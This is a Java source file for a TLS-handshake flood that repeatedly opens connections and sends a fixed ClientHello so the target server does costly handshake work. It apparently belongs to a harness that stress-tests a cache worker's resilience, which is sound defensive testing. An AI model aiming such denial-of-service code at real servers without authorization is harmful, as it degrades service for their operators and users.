package io.cachedhive.attack.load;

import io.cachedhive.attack.plan.Attack;
import io.cachedhive.attack.plan.Pressure;
import io.cachedhive.attack.setting.Target;

import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.lang.management.ThreadMXBean;
import java.net.StandardSocketOptions;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.util.Optional;
import java.util.Set;

/**
 * An attacker with a part of a processor starts as many TLS handshakes as it can. They are expensive for the server
 * only, since the attacker sends the same first record each time and computes nothing.
 */
public final class Flood
        implements Attack
{
    // however slow the machine is
    private static final int MIN_TRIES = 10;
    private static final long PAUSE_MILLIS = 1;

    @Override
    public String name()
    {
        return "flood";
    }

    @Override
    public String description()
    {
        return "TLS handshakes that are expensive for the cache worker only";
    }

    @Override
    public Set<Need> needs()
    {
        return Set.of();
    }

    @Override
    public boolean isCounted()
    {
        return false;
    }

    @Override
    public Optional<String> run(Target target, Pressure pressure)
            throws IOException, InterruptedException
    {
        ByteBuffer record = ClientHello.create();
        ByteBuffer answer = ByteBuffer.allocate(1);
        ThreadMXBean threads = ManagementFactory.getThreadMXBean();
        long begin = System.nanoTime();
        long processorBegin = threads.getCurrentThreadCpuTime();
        long handshakes = 0;
        long tries = 0;
        while (System.nanoTime() - begin < pressure.duration().toNanos() || tries < MIN_TRIES) {
            if (threads.getCurrentThreadCpuTime() - processorBegin > (System.nanoTime() - begin) * pressure.processorShare()) {
                Thread.sleep(PAUSE_MILLIS);
                continue;
            }
            tries++;
            try (SocketChannel connection = SocketChannel.open(target.socketAddress())) {
                // the port is free again at once
                connection.setOption(StandardSocketOptions.SO_LINGER, 0);
                connection.write(record.duplicate());
                // the server has computed its part
                if (connection.read(answer.clear()) > 0) {
                    handshakes++;
                }
            }
            catch (IOException _) {
                // refused
            }
        }
        if (handshakes == 0) {
            throw new IOException("the cache worker answered no handshake");
        }
        return Optional.empty();
    }
}
